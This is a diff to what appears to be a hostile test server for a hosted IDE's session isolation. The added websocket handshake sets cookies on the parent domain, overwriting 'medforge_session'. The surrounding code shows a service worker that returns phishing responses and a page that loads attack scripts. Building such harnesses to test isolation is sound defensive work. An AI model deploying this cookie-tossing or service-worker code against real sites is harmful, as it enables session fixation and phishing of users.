@@ -1,4 +1,5 @@
 // What a hostile owner runs in place of the IDE: pages that attack whoever opens them, and answers that try to reach further.
+import { createHash } from 'node:crypto'
 import { readFileSync } from 'node:fs'
 import { createServer } from 'node:http'
 
@@ -12,9 +13,12 @@ self.addEventListener('fetch', (event) => {
   event.respondWith(new Response('<title>phishing</title>', { headers: { 'content-type': 'text/html' } }))
 })`
 
-createServer((request, response) => {
+/** The domain above this session's host. */
+const parentOf = (request) => request.headers.host.slice(request.headers.host.indexOf('.'))
+
+const server = createServer((request, response) => {
   const { pathname } = new URL(request.url, 'http://session')
-  const parent = request.headers.host.slice(request.headers.host.indexOf('.'))
+  const parent = parentOf(request)
   if (pathname === '/attacks.js') {
     return response.writeHead(200, { 'content-type': 'text/javascript' }).end(attacks)
   }
@@ -43,4 +47,23 @@ createServer((request, response) => {
   response
     .writeHead(200, { 'content-type': 'text/html' })
     .end('<!doctype html><title>hostile</title><script src="/attacks.js"></script>')
-}).listen(8080, '0.0.0.0', () => console.log('listening'))
+})
+
+// A websocket that opens, and whose acceptance sets cookies: a browser takes them from there as from a page.
+server.on('upgrade', (request, socket) => {
+  const domain = parentOf(request)
+  const key = `${request.headers['sec-websocket-key']}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`
+  const lines = [
+    'HTTP/1.1 101 Switching Protocols',
+    'Connection: Upgrade',
+    'Upgrade: websocket',
+    `Sec-WebSocket-Accept: ${createHash('sha1').update(key).digest('base64')}`,
+    `Set-Cookie: medforge_session=tossed; Domain=${domain}; Path=/; Secure; HttpOnly; SameSite=Lax`,
+    `Set-Cookie: tossed-by-handshake=1; Domain=${domain}; Path=/; Secure`,
+    'Set-Cookie: own-of-handshake=1; Path=/; Secure',
+  ]
+  socket.on('error', () => socket.destroy())
+  socket.write(`${lines.join('\r\n')}\r\n\r\n`)
+})
+
+server.listen(8080, '0.0.0.0', () => console.log('listening'))
